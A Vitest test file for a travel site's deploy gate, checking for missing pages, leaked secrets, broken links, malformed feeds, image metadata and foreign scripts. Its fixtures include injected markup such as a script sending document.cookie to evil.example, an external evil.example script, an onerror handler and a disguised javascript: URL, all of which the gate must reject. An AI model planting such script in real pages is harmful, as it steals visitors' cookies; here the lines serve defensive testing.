/**
 * The deploy gate (`npm run verify`) over small built sites written to a temporary folder: a
 * complete one passes, and each way a build can go wrong fails with a reason that names it.
 * The checks one by one are in verify-checks.test.ts, the static hosts in verify-hosting.test.ts.
 */
import { Buffer } from 'node:buffer';
import { readFile, rm, unlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import sharp from 'sharp';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { writeFingerprints } from '../../scripts/verify/fingerprints.ts';
import type { BuildManifest } from '../../scripts/verify/manifest.ts';
import { expectedPages, FIXED_ROUTES, readSnapshot } from '../../scripts/verify/pages.ts';
import { formatReport } from '../../scripts/verify/report.ts';
import { runVerify } from '../../scripts/verify/run.ts';
import { fingerprintSecrets } from '../../scripts/verify/secrets.ts';
import { type Snapshot, writeBuildManifest } from '../../src/integrations/build-manifest.ts';
import { preparePublication } from '../../src/integrations/publication.ts';
import {
  BASE_ENV,
  exec,
  type Fixture,
  feed,
  makeFixture,
  messages,
  page,
  ROOT,
  removePage,
  SECRET,
  SITE_ORIGIN,
  SNAPSHOT,
} from '../support/verify-site.ts';

let fixture: Fixture;
beforeEach(async () => {
  fixture = await makeFixture();
});
afterEach(async () => {
  await rm(fixture.root, { recursive: true, force: true });
});

describe('runVerify', () => {
  it('passes a complete site', async () => {
    const result = await runVerify(fixture.options());
    expect(result.problems).toEqual([]);
    expect(result.stats.expectedPages).toBe(FIXED_ROUTES.length + 7 + 3);
  });

  it('fails on a missing item page, naming the page and the item', async () => {
    await removePage(fixture.dist, 'tour/102.html');
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'pages')).toEqual(['The page /tour/102 (tours item 102) was not built.']);
  });

  it("fails on a missing page of the visitor's guide, and on a missing home page of a language it is in", async () => {
    await removePage(fixture.dist, 'es/guia.html');
    await removePage(fixture.dist, 'es.html');
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'pages')).toEqual([
      'The page /es/guia (blog page 214 at /es/guia) was not built.',
      'The page /es (the home page in es) was not built.',
    ]);
  });

  it('fails on a missing route of the route table', async () => {
    await removePage(fixture.dist, 'all-drivers.html');
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'pages')).toEqual(['The page /all-drivers (route of the route table) was not built.']);
  });

  it('fails on a collection emptied since the last published site, and passes it with the override', async () => {
    const previous = (await readManifestFile(fixture.dist)) as BuildManifest;
    await writeFile(path.join(fixture.snapshot, 'testimonials.json'), '[]');
    await writeBuildManifest(fixture.dist, fixture.snapshot, fixture.root);
    const { problems } = await runVerify(fixture.options({ previous }));
    expect(messages(problems, 'collections')).toEqual([
      expect.stringMatching(
        /^The collection testimonials is empty, but the last published site had 1 entries\. .*--allow-shrink/,
      ),
    ]);
    expect((await runVerify(fixture.options({ previous, allowShrink: true }))).problems).toEqual([]);
  });

  it('fails when the site was built from other data than the snapshot checked', async () => {
    await writeFile(path.join(fixture.snapshot, 'events.json'), '[]');
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'collections')).toEqual([
      'The site was built from other data than the snapshot being checked (events: 1 in the build, 0 in the snapshot).',
    ]);
  });

  it.each([
    ['as it is', SECRET],
    ['URL-encoded', encodeURIComponent(`${SECRET}/x`)],
    ['base64-encoded', Buffer.from(SECRET).toString('base64')],
  ])('fails on a secret planted in dist/ (%s), without printing it', async (form, planted) => {
    await fixture.write('_astro/chunk.js', `const leaked = "${planted}";`);
    const options = fixture.options();
    if (form === 'URL-encoded') options.fingerprints = fingerprintSecrets([{ name: 'PROVIDER_API_TOKEN', value: `${SECRET}/x` }]);
    const { problems } = await runVerify(options);
    expect(messages(problems, 'secrets')).toEqual([`_astro/chunk.js contains the value of PROVIDER_API_TOKEN (${form}).`]);
    expect(formatReport(problems)).not.toContain(SECRET);
  });

  it('fails on a broken internal link, once per target with the pages that link to it', async () => {
    await fixture.write('about.html', page('<a href="/tour/999">Passeio antigo</a><a href="../tour/999">de novo</a>'));
    await fixture.write(
      'contato.html',
      page(`<a href="${SITE_ORIGIN}/tour/999">x</a><a href="https://elsewhere.example/y">ok</a>`),
    );
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'links')).toEqual(['/tour/999 does not exist (linked from about.html, contato.html).']);
  });

  it('fails on a page the sitemap lists but the build does not have', async () => {
    await fixture.write('sitemap-0.xml', `<urlset><url><loc>${SITE_ORIGIN}/tour/103</loc></url></urlset>`);
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'links')).toEqual(['/tour/103 does not exist (linked from sitemap-0.xml).']);
  });

  it.each([
    [
      'a title with U+FFFE',
      'news/rss.xml',
      feed('Festa\ufffe'),
      /line 1, column \d+: the character U\+FFFE is not allowed in XML/,
    ],
    ['a title with U+0001', 'news/rss.xml', feed('Festa\u0001'), /the character U\+0001 is not allowed in XML/],
    [
      'a lone surrogate (its UTF-8 form, as a careless encoder writes it)',
      'news/rss.xml',
      Buffer.concat(
        feed('Festa|')
          .split('|')
          .flatMap((part, index) => [...(index ? [Buffer.from([0xed, 0xa0, 0x80])] : []), Buffer.from(part)]),
      ),
      /its bytes are not valid UTF-8/,
    ],
    ['a reference to a forbidden character', 'news/rss.xml', feed('Festa&#1;'), /&#1; refers to a character not allowed/],
    ['an HTML entity', 'news/rss.xml', feed('Festa&nbsp;2026'), /the entity &nbsp; is not defined/],
    ['an unclosed element', 'sitemap-0.xml', `<urlset><url><loc>${SITE_ORIGIN}/</loc></urlset>`, /line 1, column \d+: .*'url'/],
    [
      'U+FFFF in the sitemap index',
      'sitemap-index.xml',
      `<sitemapindex><sitemap><loc>${SITE_ORIGIN}/sitemap-0.xml\uffff</loc></sitemap></sitemapindex>`,
      /U\+FFFF/,
    ],
  ])('fails on a feed or a sitemap that is not well-formed: %s, naming the file', async (_what, file, content, reason) => {
    await fixture.write(file, content);
    const { problems } = await runVerify(fixture.options());
    const reader = file === 'news/rss.xml' ? 'feed readers' : 'search engines';
    expect(messages(problems, 'xml')).toEqual([
      expect.stringMatching(new RegExp(`^${file.replace('.', '\\.')} is not well-formed XML \\(`)),
    ]);
    expect(messages(problems, 'xml')[0]).toMatch(reason);
    expect(messages(problems, 'xml')[0]).toMatch(new RegExp(`\\): ${reader} refuse the whole file\\.$`));
  });

  it('passes a feed with CDATA, character references and characters outside the BMP; fails without a feed', async () => {
    await fixture.write('news/rss.xml', feed('Caf&#xE9; &#233; 😀\t<![CDATA[a &nbsp; b]]><!-- & -->'));
    expect((await runVerify(fixture.options())).problems).toEqual([]);
    await unlink(path.join(fixture.dist, 'news/rss.xml'));
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'xml')).toEqual([
      'news/rss.xml is missing: feed readers subscribed to the news would get an error.',
    ]);
  });

  it.each([
    ['an original copied under an AVIF name', '_astro/foto.Xy12_1a2b.avif', 'jpeg', {}, /is a JPEG, not an AVIF: /],
    ['an animated GIF copied under a WebP name', '_astro/anim.Xy12_1a2b.webp', 'gif', {}, /is a GIF, not a WebP: /],
    [
      'a JPEG with the place it was taken',
      '_astro/foto.Xy12_1a2b.jpg',
      'jpeg',
      { IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '15/1 4/1 0/1' } },
      / carries a GPS location \(in its EXIF\): /,
    ],
  ] as const)('fails on an image in dist/: %s, naming the file', async (_what, file, format, exif, reason) => {
    const image = () => sharp({ create: { width: 8, height: 8, channels: 3, background: '#3a6' } });
    await fixture.write(file, await (format === 'gif' ? image().gif() : image().jpeg().withExif(exif)).toBuffer());
    // Next to it, an encode as the build makes them: passes.
    await fixture.write('_astro/ok.Xy12_9f8e.avif', await image().avif({ effort: 0 }).toBuffer());
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'images')).toEqual([expect.stringMatching(new RegExp(`^${file.replaceAll('.', '\\.')}`))]);
    expect(messages(problems, 'images')[0]).toMatch(reason);
  });

  it('fails on a missing asset, a missing anchor, a missing sprite icon and a missing font of a stylesheet', async () => {
    await unlink(path.join(fixture.dist, '_astro/poppins.woff2'));
    await fixture.write(
      'about.html',
      page(
        '<img src="/images/gone.avif" alt=""><a href="/all-tours#nada">x</a>' +
          '<svg><symbol id="icon-pin"></symbol></svg><svg><use href="#icon-pin"></use></svg><svg><use href="#icon-heart"></use></svg>',
      ),
    );
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'links').sort()).toEqual([
      '/_astro/poppins.woff2 does not exist (linked from _astro/site.css).',
      '/about#icon-heart does not exist (linked from about.html).',
      '/all-tours#nada does not exist (linked from about.html).',
      '/images/gone.avif does not exist (linked from about.html).',
    ]);
  });

  it.each([
    [
      'a foreign inline script',
      '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
      /an inline script that our build did not put there .*evil\.example/,
    ],
    [
      'a script from another site',
      '<script src="https://cdn.evil.example/x.js"></script>',
      /a script is loaded from https:\/\/cdn\.evil\.example\/x\.js/,
    ],
    [
      'an inline event handler',
      '<img src="/images/logo.svg" alt="" onerror="alert(1)">',
      /an inline event handler onerror="alert\(1\)" on <img>/,
    ],
    ['a javascript: URL', '<a href=" jav&#x09;ascript:alert(1)">x</a>', /a javascript: URL in href on <a>/],
  ])('fails on %s', async (_name, markup, reason) => {
    await fixture.write('news/1008.html', page(markup));
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'scripts')).toEqual([expect.stringMatching(reason)]);
    expect(messages(problems, 'scripts')[0]).toMatch(/^news\/1008\.html: /);
  });

  it('fails on a page without a Content-Security-Policy', async () => {
    await fixture.write('about.html', page('').replace(/<meta http-equiv="content-security-policy"[^>]*>/, ''));
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'scripts')).toContain(
      'about.html: the page has no Content-Security-Policy, so nothing stops a foreign script from running.',
    );
  });

  it('reports a missing build as one plain reason', async () => {
    const { problems } = await runVerify(fixture.options({ distDir: path.join(fixture.root, 'nowhere') }));
    expect(problems).toEqual([
      {
        gate: 'pages',
        message: expect.stringMatching(/^There is no built site in .*nowhere: run the build first\.$/),
        editor: expect.stringMatching(/^Não há site construído para verificar: /),
      },
    ]);
  });
});

async function readManifestFile(dist: string): Promise<unknown> {
  return JSON.parse(await readFile(path.join(dist, 'build-manifest.json'), 'utf8'));
}

/** Only what the command needs: the secrets it searches for come from the test, not from this machine. */
describe('the command', () => {
  it('exits 1 and prints every reason under its heading; exits 0 on a good site', async () => {
    const env = { ...BASE_ENV, PROVIDER_API_TOKEN: SECRET, SNAPSHOT_DIR: fixture.snapshot };
    const args = ['scripts/verify.ts', '--dist', fixture.dist];
    const ok = await exec(process.execPath, args, { cwd: ROOT, env });
    expect(ok.stdout).toMatch(/^verify: ok in .* 1 secret\(s\) searched for/m);
    // The editors' line in the run's summary; no refusal note (a refusal's: verify-editor.test.ts).
    const summary = path.join(fixture.root, 'summary.md');
    const refusal = path.join(fixture.root, 'refusal.json');
    const editorsEnv = { ...env, GITHUB_STEP_SUMMARY: summary, VERIFY_REFUSAL_FILE: refusal, ALLOW_SHRINK: 'true' };
    await exec(process.execPath, args, { cwd: ROOT, env: editorsEnv });
    expect(await readFile(summary, 'utf8')).toBe(
      '### O site passou na verificação final\n\n' +
        `O site passou por todas as verificações e será publicado: ${FIXED_ROUTES.length + 7 + 3} páginas.\n` +
        'Nesta publicação foram aceitas, como pedido, coleções menores que a metade (allow\\_shrink).\n\n',
    );
    await expect(readFile(refusal, 'utf8')).rejects.toThrow(/ENOENT/);

    await removePage(fixture.dist, 'experience/7.html');
    await fixture.write('_astro/leak.js', SECRET);
    const failed = await exec(process.execPath, args, { cwd: ROOT, env }).then(
      () => null,
      (error: { code: number; stderr: string }) => error,
    );
    expect(failed?.code).toBe(1);
    expect(failed?.stderr).toContain('Missing pages (1):\n  - The page /experience/7 (experiences item 7) was not built.');
    expect(failed?.stderr).toContain(
      'Secrets in the built site (1):\n  - _astro/leak.js contains the value of PROVIDER_API_TOKEN (as it is).',
    );
    expect(failed?.stderr).toContain('The current site stays online.');
    expect(failed?.stderr).not.toContain(SECRET);
  });

  it('searches for the fingerprints SECRET_FINGERPRINTS_FILE names, without the secret; refuses to start without them', async () => {
    const file = path.join(fixture.root, 'secret-fingerprints.json');
    await writeFingerprints(file, fingerprintSecrets([{ name: 'PROVIDER_API_TOKEN', value: SECRET }]));
    const env = { ...BASE_ENV, SNAPSHOT_DIR: fixture.snapshot, SECRET_FINGERPRINTS_FILE: file };
    const args = ['scripts/verify.ts', '--dist', fixture.dist];
    const ok = await exec(process.execPath, args, { cwd: ROOT, env });
    expect(ok.stdout).toMatch(/^verify: ok in .* 1 secret\(s\) searched for/m);

    await fixture.write('_astro/leak.js', `"${SECRET}"`);
    const refused = await exec(process.execPath, args, { cwd: ROOT, env }).then(
      () => null,
      (error: { code: number; stderr: string }) => error,
    );
    expect(refused?.code).toBe(1);
    expect(refused?.stderr).toContain('_astro/leak.js contains the value of PROVIDER_API_TOKEN (as it is).');

    const missing = { ...env, SECRET_FINGERPRINTS_FILE: path.join(fixture.root, 'none.json') };
    const stopped = await exec(process.execPath, args, { cwd: ROOT, env: missing }).then(
      () => null,
      (error: { code: number; stderr: string }) => error,
    );
    expect(stopped?.code).toBe(1);
    expect(stopped?.stderr).toMatch(/^verify: SECRET_FINGERPRINTS_FILE cannot be read: ENOENT/m);
  });

  it('compares with the previous manifest given by VERIFY_PREVIOUS_MANIFEST', async () => {
    const previousFile = path.join(fixture.root, 'previous.json');
    const previous = { ...((await readManifestFile(fixture.dist)) as BuildManifest) };
    previous.counts = { ...previous.counts, tours: 5 };
    await writeFile(previousFile, JSON.stringify(previous));
    const env = { ...BASE_ENV, SNAPSHOT_DIR: fixture.snapshot, VERIFY_PREVIOUS_MANIFEST: previousFile };
    const failed = await exec(process.execPath, ['scripts/verify.ts', '--dist', fixture.dist], { cwd: ROOT, env }).catch(
      (error: { code: number; stderr: string }) => error,
    );
    expect(failed).toMatchObject({ code: 1 });
    expect((failed as { stderr: string }).stderr).toContain('The collection tours has 2 entries, less than half of the 5');
    const allowed = await exec(process.execPath, ['scripts/verify.ts', '--dist', fixture.dist], {
      cwd: ROOT,
      env: { ...env, ALLOW_SHRINK: 'true' },
    });
    expect(allowed.stdout).toContain('(shrinking allowed)');
  });

  it.each([
    ['--allow-growth', ['--allow-growth'], {}],
    ['ALLOW_GROWTH=true', [], { ALLOW_GROWTH: 'true' }],
  ])('takes %s', async (_name, flags, variables) => {
    const env = { ...BASE_ENV, SNAPSHOT_DIR: fixture.snapshot, ...variables };
    const { stdout } = await exec(process.execPath, ['scripts/verify.ts', '--dist', fixture.dist, ...flags], { cwd: ROOT, env });
    expect(stdout).toMatch(/^verify: ok in .*\(growth allowed\)\.$/m);
  });
});
describe('the pages of a list', () => {
  const tours = (listed: number, unlisted = 0) => [
    ...Array.from({ length: listed }, (_, index) => ({ id: `t${index}` })),
    ...Array.from({ length: unlisted }, (_, index) => ({ id: `u${index}`, isListed: false })),
  ];
  const listPaths = (snapshot: Snapshot) =>
    expectedPages(snapshot)
      .map((page) => page.path)
      .filter((sitePath) => sitePath.startsWith('/all-tours'));

  it.each([
    ['48 listed tours: one page, no index', 48, 0, []],
    ['49 listed tours: page 2 and the index its filters fetch', 49, 0, ['/all-tours/page/2', '/all-tours/index.json']],
    ['48 listed and 5 not listed: the list leaves them out, one page', 48, 5, []],
    ['97 listed: three pages', 97, 0, ['/all-tours/page/2', '/all-tours/page/3', '/all-tours/index.json']],
  ])('%s', (_, listed, unlisted, later) => {
    expect(listPaths({ tours: tours(listed, unlisted) })).toEqual(['/all-tours', ...later]);
  });

  it('names a missing page of a list', async () => {
    const snapshot = { ...SNAPSHOT, tours: tours(49) };
    await writeFile(path.join(fixture.snapshot, 'tours.json'), JSON.stringify(snapshot.tours));
    for (const { id } of snapshot.tours) await fixture.write(`tour/${id}.html`, page(''));
    await fixture.write('all-tours/index.json', '[]');
    await writeBuildManifest(fixture.dist, fixture.snapshot, fixture.root);
    await preparePublication(fixture.dist, 'any');
    const { problems } = await runVerify(fixture.options());
    expect(messages(problems, 'pages')).toEqual(['The page /all-tours/page/2 (page 2 of the tours list) was not built.']);
  });

  it('reads which providers are not listed from the snapshot', async () => {
    await writeFile(
      path.join(fixture.snapshot, 'tourProviders.json'),
      JSON.stringify([
        { id: '801', isListed: true, title: 'A' },
        { id: '804', isListed: false, title: 'B' },
      ]),
    );
    const { snapshot } = await readSnapshot(fixture.snapshot);
    expect(snapshot.tourProviders).toEqual([{ id: '801' }, { id: '804', isListed: false }]);
  });
});
